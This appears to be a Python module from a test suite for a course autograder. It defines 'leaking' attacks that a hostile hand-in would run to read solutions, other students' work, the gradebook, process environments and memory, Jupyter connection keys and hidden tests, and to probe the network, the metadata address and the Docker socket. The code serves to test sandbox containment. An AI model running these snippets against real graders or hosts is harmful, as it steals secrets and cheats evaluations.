"""Leaking: the hand-in looks for what it may not see and prints all that it finds.

What it prints ends up in the graded notebook, which the student gets back. Secrets are planted in
the course beforehand (arena.PLANTED); none may stand there afterwards.
"""

from __future__ import annotations

from .attack import WRONG, Attack

READ = '''
import glob, os
def show(path):
    """Print what stands in a file, whatever it is."""
    try:
        with open(path, "rb") as file:
            print(path, file.read(400_000).decode("utf-8", "replace")[-20_000:])
    except OSError as error:
        print(path, type(error).__name__)

def above(pattern):
    """Files of that name above and beside the working folder, and anywhere near the root."""
    places = ["../" * level for level in range(1, 8)]
    places += ["/*/", "/*/*/", "/*/*/*/", "/tmp/*/*/*/*/"]
    found = {os.path.realpath(path) for place in places for path in glob.glob(place + pattern)}
    return sorted(path for path in found if not path.startswith(("/proc", "/sys", "/usr")))[:20]
'''
SOURCE = (
    READ
    + """
for path in above("source/*/*.ipynb") + above("solutions/*/*.ipynb") + above("authoring/*.py"):
    show(path)
"""
)
HAND_INS = (
    READ
    + """
for folder in ("submitted", "autograded"):
    for path in above(f"{folder}/honest/*/*") + above(f"{folder}/neighbour/*/*"):
        show(path)
"""
)
GRADEBOOK = (
    READ
    + """
import re
for book in above("gradebook.db"):
    with open(book, "rb") as file:
        print(book, re.findall(rb"[ -~]{12,}", file.read()))
"""
)
SETTINGS = (
    READ
    + """
for path in above("course.toml") + above("nbgrader_config.py") + above(".git/*"):
    show(path)
for path in above(".course/*/*/*") + above(".course/*"):
    show(path)
"""
)
ENVIRONMENT = (
    READ
    + """
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    show(path)
"""
)
PROCESSES = (
    READ
    + """
for process in sorted(glob.glob("/proc/[0-9]*")):
    show(process + "/cmdline")
    for name in ("cwd", "exe", "root"):
        try:
            there = os.readlink(f"{process}/{name}")
            print(process, name, there, os.listdir(f"{process}/{name}/")[:50])
        except OSError as error:
            print(process, name, type(error).__name__)
    for place in ("course.toml", "gradebook.db", ".git/config"):
        for path in glob.glob(f"{process}/cwd/{place}") + glob.glob(f"{process}/root/*/{place}"):
            show(path)
    for number in glob.glob(process + "/fd/*"):
        try:
            print(number, os.readlink(number))
        except OSError:
            pass
"""
)
MEMORY = (
    READ
    + """
import re
for process in os.listdir("/proc"):
    if process.isdigit() and int(process) != os.getpid():
        try:
            with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb") as memory:
                for line in maps:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    if " rw" in line:
                        memory.seek(start)
                        print(re.findall(rb"planted[ -~]+", memory.read(min(end - start, 2**26))))
        except (OSError, ValueError, OverflowError) as error:
            print(process, type(error).__name__)
"""
)
HIDDEN_TESTS = (
    WRONG
    + '''
import linecache, sys
plain_kd_loss = kd_loss
told = set()

def kd_loss(*inputs):
    """Print the text and the names of everything that called this."""
    frame = sys._getframe()
    while frame := frame.f_back:
        name = frame.f_code.co_filename
        if name not in told:
            told.add(name)
            print(name, "".join(linecache.getlines(name))[:5000])
            print({key: repr(value)[:500] for key, value in frame.f_locals.items()})
    return plain_kd_loss(*inputs)
'''
)
HISTORY = """
shell = get_ipython()
def look(*anything):
    print(shell.user_ns.get("In"), shell.user_ns.get("_ih"), shell.user_ns.get("Out"))
    print([line for *_, line in shell.history_manager.get_range(raw=True)])

for event in ("pre_run_cell", "post_run_cell"):
    shell.events.register(event, look)
"""
REFERENCE = """
import importlib, pkgutil, inspect
found = None
for name in ("course_lib.distillation", "course_lib.deployment", "graders.tasks.distillation",
             "graders.misconceptions.distillation", "graders.judging.judge", "graders.settings"):
    try:
        module = importlib.import_module(name)
        print(name, inspect.getsource(module)[:20_000])
        found = getattr(module, "kd_loss", found)
    except Exception as error:
        print(name, type(error).__name__, error)
import course_lib
print([module.name for module in pkgutil.iter_modules(course_lib.__path__)])
if found is not None:
    kd_loss = found
"""
INSTALLATION = (
    READ
    + """
import json, re, sysconfig
packages = sysconfig.get_path("purelib")
named = glob.glob(packages + "/*.pth") + glob.glob(packages + "/__editable__*")
named += glob.glob(packages + "/ecbs5200*/*")
places = set()
for path in named:
    with open(path, errors="replace") as file:
        places |= set(re.findall(r"/[\\w./-]+", file.read()))
for place in sorted(places):
    print(place, os.listdir(place) if os.path.isdir(place) else os.path.isfile(place))
    for root in (place, os.path.dirname(place)):
        for name in ("course.toml", "graders/tasks/distillation.py", "tasks/distillation.py",
                     "distillation.py", ".git/config"):
            if os.path.exists(f"{root}/{name}"):
                show(f"{root}/{name}")
                if "distillation" in name:
                    from course_lib.distillation import kd_loss
"""
)
CASES = (
    READ
    + """
for path in sorted(glob.glob("/course/cases/*")) + glob.glob("/course/*.json"):
    with open(path) as file:
        text = file.read()
    print(path, len(text), [word for word in ("expect", "value", "answer", "seed") if word in text])
"""
)
CONNECTION = (
    READ
    + """
import json
from ipykernel.connect import get_connection_file
from jupyter_client import BlockingKernelClient
for path in [get_connection_file(), *glob.glob("/ipc/*.json"), *glob.glob("/course/*.json")]:
    show(path)
try:
    client = BlockingKernelClient(connection_file=get_connection_file())
    client.load_connection_file()
    client.start_channels()
    client.execute("kd_loss = None; print('second client')")
    print(client.get_iopub_msg(timeout=2))
except Exception as error:
    print(type(error).__name__, error)
"""
)
NETWORK = """
import os, socket, urllib.request
for host in ("127.0.0.1", "localhost", "example.com", "169.254.169.254", "8.8.8.8"):
    for port in (53, 80, 443, 8888):
        try:
            with socket.create_connection((host, port), timeout=0.3) as line:
                line.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
                print("reached", host, port, line.recv(500))
        except OSError as error:
            print(host, port, type(error).__name__)
try:
    print("reached", socket.getaddrinfo("secret.example.com", 443))
except OSError as error:
    print(type(error).__name__)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        print("reached", out.sendto(b"secret", ("8.8.8.8", 53)))
except OSError as error:
    print(type(error).__name__)
for path in ("/run/docker.sock", "/var/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.connect(path)
            print("reached", path)
    except OSError as error:
        print(path, type(error).__name__)
"""
MOUNTS = (
    READ
    + """
show("/proc/self/mountinfo")
with open("/proc/self/mountinfo") as mounts:
    for line in mounts:
        inside, outside = line.split()[4], line.split()[3]
        for root in (inside, outside, inside + "/..", outside + "/.."):
            for name in ("course.toml", "gradebook.db", ".git/config"):
                if os.path.exists(f"{root}/{name}"):
                    show(f"{root}/{name}")
for level in ("", "/proc/1/root", "/proc/self/root"):
    for folder in ("/root", "/home", "/work", "/srv", "/mnt", "/etc", "/tmp", "/ipc", "/course"):
        try:
            print(level + folder, os.listdir(level + folder)[:100])
        except OSError as error:
            print(level + folder, type(error).__name__)
"""
)
OWN_NAME = (
    READ
    + """
for path in glob.glob("./**/*", recursive=True) + glob.glob("/handin/**/*", recursive=True):
    show(path)
"""
)


def leaking(name: str, tries: str, code: str) -> Attack:
    """An attack that searches behind its wrong answer."""
    return Attack(name, "leaking", tries, kd_loss=WRONG + code)


ATTACKS = (
    leaking(
        "reads-solutions",
        "Looks for source, solutions and authoring texts, and prints them.",
        SOURCE,
    ),
    leaking(
        "reads-hand-ins", "Looks for what other students handed in and how it was graded.", HAND_INS
    ),
    leaking("reads-gradebook", "Looks for the gradebook and prints every text in it.", GRADEBOOK),
    leaking("reads-settings", "Looks for settings, the git folder and kept executions.", SETTINGS),
    leaking(
        "reads-environment", "Prints the environment of every process that it can see.", ENVIRONMENT
    ),
    leaking("reads-processes", "Follows /proc to other processes' files and folders.", PROCESSES),
    leaking("reads-memory", "Searches the memory of every other process for secrets.", MEMORY),
    Attack(
        "reads-hidden-tests",
        "leaking",
        "Prints the text and the names of all that calls the answer, from frames and linecache.",
        kd_loss=HIDDEN_TESTS,
    ),
    leaking("reads-history", "Prints IPython's history before and after each test.", HISTORY),
    leaking("imports-reference", "Imports the modules that hold references and tests.", REFERENCE),
    leaking(
        "follows-the-installation",
        "Follows the paths that the environment's .pth and editable-install files name.",
        INSTALLATION,
    ),
    leaking("reads-cases", "Reads all cases in search of what should come out.", CASES),
    leaking(
        "reads-connection",
        "Reads Jupyter's connection file with its key and connects a client of its own.",
        CONNECTION,
    ),
    leaking("goes-online", "Tries sockets, name look-ups and well-known local services.", NETWORK),
    leaking("follows-mounts", "Follows the mounts to the folders outside that they name.", MOUNTS),
    leaking(
        "lists-its-own-place", "Prints every file in its working and hand-in folders.", OWN_NAME
    ),
)
